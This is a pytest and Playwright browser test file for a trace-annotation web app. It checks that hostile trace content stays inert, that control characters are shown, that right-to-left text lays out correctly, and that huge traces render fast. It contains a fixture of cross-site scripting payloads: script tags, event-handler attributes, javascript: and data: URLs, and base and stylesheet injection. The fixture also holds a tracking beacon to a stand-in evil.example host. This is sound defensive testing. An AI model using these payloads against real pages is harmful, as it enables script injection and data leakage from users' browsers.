"""Traces that mean harm, or are merely enormous: shown safely and quickly, and nothing leaves the page."""

from __future__ import annotations

import time
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.conftest import NOW
from tests.factories import a_document, a_signal, a_tool_call, an_edit, an_edit_signal
from tests.web.conftest import Reviewer, Site

pytestmark = pytest.mark.browser

Sit = Callable[..., Reviewer]

BEACON = "https://evil.example/pixel.png?stolen=1"
ATTACKS = f"""<script>window.harmed = 1</script><img src="{BEACON}" onerror="window.harmed = 1">
<svg onload="window.harmed = 1"></svg><iframe src="https://evil.example"></iframe><style>body {{ display: none }}</style>
<a href="javascript:window.harmed = 1">raw</a> <base href="https://evil.example/"><link rel="stylesheet" href="{BEACON}">

![beacon]({BEACON}) [link](javascript:window.harmed=1) [encoded](&#x6A;avascript:window.harmed=1) <javascript:window.harmed=1>
![x](data:text/html,<script>window.harmed=1</script>) [data](data:text/html;base64,PHNjcmlwdD4=) [ours](/sign-out) [ok](https://ok.example/a)

</div></article></main><template></template>

| a | b |
|---|---|
| <script>window.harmed=1</script> | ![t]({BEACON}) |

```html
<script>window.harmed = 1</script>
```
"""


def test_nothing_in_a_trace_runs_or_loads(served: Site, sit: Sit) -> None:
    served.publish()
    at = NOW - timedelta(hours=20)
    served.queue(
        id="<img src=x onerror=window.harmed=1>",
        input=[{"role": "system", "content": ATTACKS}, {"role": ATTACKS[:200], "name": ATTACKS, "content": ATTACKS}],
        output=ATTACKS,
        documents=(a_document(id=ATTACKS[:300], content=ATTACKS),),
        tool_calls=(a_tool_call(name=ATTACKS[:200], arguments={ATTACKS: ATTACKS}, result=ATTACKS),),
        signals=(
            a_signal(id="s1", at=at, comment=ATTACKS),
            an_edit_signal(id="s2", at=at, edit=an_edit(original=ATTACKS, edited=ATTACKS, hunks=())),
        ),
        model=ATTACKS[:100],
        entry={"reason": ATTACKS, "category": ATTACKS[:50]},
    )
    served.queue()
    ann = sit()
    ann.sees("not loaded")
    ann.press("x", "e")
    expect(ann.page.locator(".answer .image-off").first).to_contain_text("beacon")
    expect(ann.page.locator(".answer .image-off").first).to_contain_text("evil.example")
    assert (
        ann.page.locator("#desk :is(img, iframe, script, style, link, base, object, embed, video, audio)").count() == 0
    )
    links = ann.page.locator("#desk .text a").evaluate_all("(all) => all.map((one) => one.getAttribute('href'))")
    assert set(links) == {"https://ok.example/a"}
    assert ann.page.locator("#desk .text a").first.get_attribute("rel") == "noopener noreferrer nofollow"
    olga = sit("olga", "/queue")
    expect(olga.page.locator(".queue .reason").first).to_contain_text("<script>")
    olga.page.locator(".queue tbody a").first.click()
    expect(olga.page.locator(".answer .image-off").first).to_be_visible()
    for page in (ann.page, olga.page):
        page.wait_for_timeout(200)
        assert page.evaluate("window.harmed") is None
    ann.press("Escape", "p", "Control+Enter")
    ann.sees("question 2")


def test_control_characters_and_terminal_colours_are_made_visible_or_dropped(served: Site, sit: Sit) -> None:
    served.publish()
    served.queue(output="\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link NUL\x00here \x07bell", input="colours")
    ann = sit()
    ann.sees("colours")
    expect(ann.page.locator(".answer .text")).to_have_text("red link NUL␀here ␇bell")


def test_text_from_right_to_left_reads_that_way_and_turns_nothing_else_around(served: Site, sit: Sit) -> None:
    served.publish()
    served.queue(input="שלום, מה שעות הפתיחה?", output="פתוח עד 18:00 👩🏽‍🚒\n\nOpen until 18:00.")
    ann = sit()
    ann.sees("שלום")
    style = "(p) => getComputedStyle(p).unicodeBidi"
    assert ann.page.locator(".turn.user .text p").evaluate(style) == "plaintext"
    box = ann.page.locator(".turn.user .text").bounding_box()
    line = ann.page.locator(".turn.user .text p").evaluate(
        "(p) => { const r = document.createRange(); r.selectNodeContents(p); return r.getBoundingClientRect().right }"
    )
    assert box is not None
    assert box["x"] + box["width"] - line < 40
    expect(ann.page.locator(".answer")).to_contain_text("👩🏽‍🚒")


@pytest.mark.parametrize(
    "given",
    [
        {"output": "A long answer with **markup**, [links](https://a.example) and words. " * 3000},
        {"output": "x" * 200_000},
        {"output": "[" * 200_000},
        {"output": "> " * 5_000 + "deep"},
        {
            "documents": tuple(
                a_document(id=f"d{n}", content="All about *returns*. " * 40, rank=n) for n in range(1, 501)
            )
        },
        {"input": [{"role": "user", "content": f"turn {n} " * 20} for n in range(600)]},
    ],
    ids=["markdown", "one-word", "brackets", "quotes", "documents", "turns"],
)
def test_what_is_enormous_is_folded_and_painted_at_once(served: Site, sit: Sit, given: dict[str, Any]) -> None:
    served.publish()
    served.queue()
    served.queue(**{"input": "the big one"} | given)
    served.queue()
    ann = sit()
    ann.sees("question 1")
    ann.until("performance.getEntriesByName(location.origin + '/annotate/next').length >= 3")
    ann.press("p")
    expect(ann.page.locator(".why .policy")).to_be_visible()
    ann.until("performance.getEntriesByName('thumbwheel.next').length === 1")
    took = ann.page.evaluate("performance.getEntriesByName('thumbwheel.next')[0].duration")
    assert took < 500, f"{took:.0f} ms from the key to the next trace"
    height = ann.page.evaluate("document.querySelector('[data-stage]').offsetHeight")
    assert height < 12_000
    begun = time.monotonic()
    ann.press("x", "e", "Control+a")
    ann.page.keyboard.insert_text("a short correction " * 50)
    expect(ann.page.locator(".diff.live ins").first).to_be_visible()
    assert time.monotonic() - begun < 5
    ann.press("Escape", "f", "w", "Control+Enter")
    ann.sees("question 3")
